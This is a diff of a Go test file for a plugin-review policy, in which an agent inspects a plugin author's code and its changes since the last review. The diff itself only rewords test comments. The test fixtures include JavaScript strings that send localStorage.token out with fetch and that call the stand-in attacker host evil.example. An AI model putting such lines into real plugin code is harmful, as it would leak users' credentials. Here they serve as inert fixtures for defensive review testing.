@@ -82,8 +82,8 @@ func mailPackage(own string) plugintest.Package {
 	return p
 }
 
-// An agent receives the author's own code in pages of readable size, without the much
-// larger libraries.
+// When an agent inspects a plugin, the agent gets the author's code in short pages,
+// without the much larger libraries.
 func TestInspectionIsReadable(t *testing.T) {
 	w := newTestPolicy(t, mailPackage("  var send = () => fetch('/send', { body: localStorage.token });\n"))
 	inspected, err := w.inspect("mail")
@@ -126,8 +126,8 @@ func TestInspectionIsReadable(t *testing.T) {
 	}
 }
 
-// The changes since the last review are a diff of the author's code. For changed
-// libraries, the diff shows only their hashes.
+// If the author's code changed, the changes since the last review are shown as a diff.
+// For changed libraries, the diff shows only their hashes.
 func TestChangesSinceReview(t *testing.T) {
 	const oldCode, now = "  var send = () => 1;\n", "  var send = () => fetch('https://evil.example');\n"
 	w := newTestPolicy(t, mailPackage(oldCode))
@@ -306,8 +306,8 @@ func TestInspectionGroupsTools(t *testing.T) {
 	}
 }
 
-// TestReviewText checks that a review always shows the changes, but shows the code only
-// on request.
+// TestReviewText checks that ReviewText always contains the changes, but contains the
+// code only if withCode is true.
 func TestReviewText(t *testing.T) {
 	long := strings.Repeat("const line = 1;\n", 10_000)
 	w := newTestPolicy(t, twoToolPackage("a", "first();\n"))
